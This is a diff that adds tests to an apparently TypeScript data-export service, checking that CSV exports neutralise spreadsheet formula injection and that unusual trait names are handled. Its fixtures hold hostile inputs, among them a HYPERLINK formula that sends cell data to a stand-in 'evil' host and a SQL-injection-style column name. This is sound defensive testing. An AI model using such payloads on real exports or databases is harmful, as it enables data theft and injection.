@@ -1,6 +1,7 @@
 import { readdir } from 'node:fs/promises';
 import { join } from 'node:path';
 import { DatabaseSync } from '@photostructure/sqlite';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { statePath } from '../data-directory.js';
 import { parquetRows } from '../import/files/parquet.js';
@@ -8,6 +9,8 @@ import { TestServer, until } from '../testing/test-server.js';
 
 const hour = 3_600_000;
 const visited = { type: 'event', event: 'Visited', count: { atLeast: 1 } };
+
+const recordsOf = (csv: string): string[][] => parse(csv);
 
 describe('exports of members', () => {
   let test: TestServer;
@@ -79,6 +82,88 @@ describe('exports of members', () => {
     for await (const row of parquetRows(join(test.directory, 'exports', '1', `${run.id}.parquet`))) found.push(row);
     expect(found).toHaveLength(2);
     expect(JSON.stringify(found)).toContain('Ana@Example.com');
+  });
+
+  it('have no formula in CSV, whoever sent it, and numbers as they are', async () => {
+    const texts = [
+      '=HYPERLINK("http://evil/?"&A2,"open")',
+      '+49 30',
+      '-1',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      "'=1",
+      "it's",
+      'a=b',
+    ];
+    for (const [index, text] of texts.entries()) {
+      const userId = `${text}${index}`;
+      await test.send({ type: 'identify', userId, traits: { text, score: -index - 1 } });
+      await test.send({ type: 'track', userId, event: 'Tried' });
+    }
+    const trying = await test.segment('trying', { ...visited, event: 'Tried' });
+    const asked = { traits: ['text', 'score'] };
+    const rowsOf = (text: string) => recordsOf(text).map(([, userId, , , , value, score]) => [userId, value, score]);
+    const csv = await (await file((await make({ ...asked, format: 'csv' }, trying.id)).id)).text();
+    const guarded = texts.map((text) => (['it', 'a='].includes(text.slice(0, 2)) ? text : `'${text}`));
+    expect(rowsOf(csv)).toEqual([
+      ['userId', 'text', 'score'],
+      ...guarded.map((text, index) => [`${text}${index}`, text, String(-index - 1)]),
+    ]);
+    const lines = await (await file((await make({ ...asked, format: 'ndjson' }, trying.id)).id)).text();
+    const raw = lines
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    expect(raw.map((row) => [row.userId, row.text])).toEqual(texts.map((text, index) => [`${text}${index}`, text]));
+  });
+
+  it('have a column of any trait that there can be, and call it as it is', async () => {
+    const names = [
+      'Monthly Charges ($)',
+      'back`tick',
+      'back\\slash',
+      'ends in \\',
+      `quotes ' and "`,
+      '` FROM system.tables --',
+      '{p0:String}',
+      'a,b;c',
+      'line\nbreak',
+      'house.number',
+      'subject.userId',
+      'subject.trait_1',
+      'member.since',
+      'trait_0',
+      'profile',
+      '=1+1',
+      'größe 尺寸 😀',
+      `long ${'x'.repeat(495)}`,
+    ];
+    const traits = Object.fromEntries(names.map((name, index) => [name, `value ${index}`]));
+    await test.send({ type: 'identify', userId: 'odd', traits }, { type: 'track', userId: 'odd', event: 'Odd' });
+    const odd = await test.segment('odd', { ...visited, event: 'Odd' });
+    const asked = { traits: names };
+    const csv = recordsOf(await (await file((await make({ ...asked, format: 'csv' }, odd.id)).id)).text());
+    expect(csv[0]?.slice(5)).toEqual(names.map((name) => (name === '=1+1' ? "'=1+1" : name)));
+    expect(csv[1]?.slice(5)).toEqual(Object.values(traits));
+    expect(csv[1]?.[1]).toBe('odd');
+    const line = JSON.parse(await (await file((await make({ ...asked, format: 'ndjson' }, odd.id)).id)).text());
+    expect(line).toMatchObject({ ...traits, userId: 'odd' });
+    const { id } = await make({ ...asked, format: 'parquet' }, odd.id);
+    for await (const row of parquetRows(join(test.directory, 'exports', '1', `${id}.parquet`))) {
+      expect(row.values).toMatchObject({ ...traits, userId: 'odd' });
+    }
+  });
+
+  it('are guarded in CSV where they are of accounts', async () => {
+    await test.call('PUT', `/v1/groups/account/${encodeURIComponent('=1+1')}`, { traits: { plan: 'odd', name: '=2' } });
+    const odd = { type: 'property', property: 'account.plan', operator: 'equals', value: 'odd' };
+    const accounts = await test.segment('odd-accounts', odd, { subject: 'account' });
+    const csv = await (await file((await make({ format: 'csv', traits: ['name'] }, accounts.id)).id)).text();
+    expect(recordsOf(csv)).toMatchObject([
+      ['id', 'parent', 'since', 'name'],
+      ["'=1+1", '', {}, "'=2"],
+    ]);
   });
 
   it('have the names of the columns where nobody is in', async () => {
